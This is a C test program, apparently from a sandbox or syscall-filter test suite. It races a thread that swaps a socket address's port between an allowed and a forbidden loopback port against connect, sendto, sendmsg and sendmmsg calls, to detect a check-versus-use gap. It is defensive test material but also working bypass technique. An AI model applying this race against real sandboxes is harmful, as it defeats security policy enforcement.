// A thread changes the address between the decision and the kernel's reading it.
#include "attack.h"
#include "net.h"

static struct sockaddr_in to = {.sin_family = AF_INET};
static uint16_t good, bad;

static void *flip(void *unused)
{
	while (!over) {
		to.sin_port = bad;
		settled();
		to.sin_port = good;
		settled();
	}
	return unused;
}

int main(int argc, char **argv)
{
	long n = tries(argc, argv), done = 0;
	honest();
	const char *how = argv[1];
	int type = strcmp(how, "connect") == 0 ? SOCK_STREAM : SOCK_DGRAM;
	int port = 0;
	int l = serve_on(type, &port);
	int closed = 19000 + getpid() % 900, f = serve_on(type, &closed);
	good = htons(port), bad = htons(closed);
	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	to.sin_port = good;
	int s = must(socket(AF_INET, type, 0));
	struct iovec v = {"x", 1};
	struct mmsghdr m = {{&to, sizeof to, &v, 1}, 0};
	start(flip, NULL);
	for (long i = 0; i < n; i++) {
		if (type == SOCK_STREAM) {
			// A port that says so at once, and is free again at once.
			must(setsockopt(s, SOL_SOCKET, SO_LINGER, &(struct linger){1, 0}, sizeof(struct linger)));
			done += connect(s, (void *)&to, sizeof to) == 0;
			close(s);
			s = must(socket(AF_INET, type, 0));
		} else if (strcmp(how, "sendto") == 0)
			done += sendto(s, "x", 1, 0, (void *)&to, sizeof to) == 1;
		else if (strcmp(how, "sendmsg") == 0)
			done += sendmsg(s, &m.msg_hdr, 0) == 1;
		else
			done += syscall(SYS_sendmmsg, s, &m, 1, 0) == 1;
		reached_by(l, type);
		if (reached_by(f, type))
			won("%s %ld", how, i);
	}
	if (done == 0)
		broken("nothing was allowed");
	lost("0 of %ld", n);
}
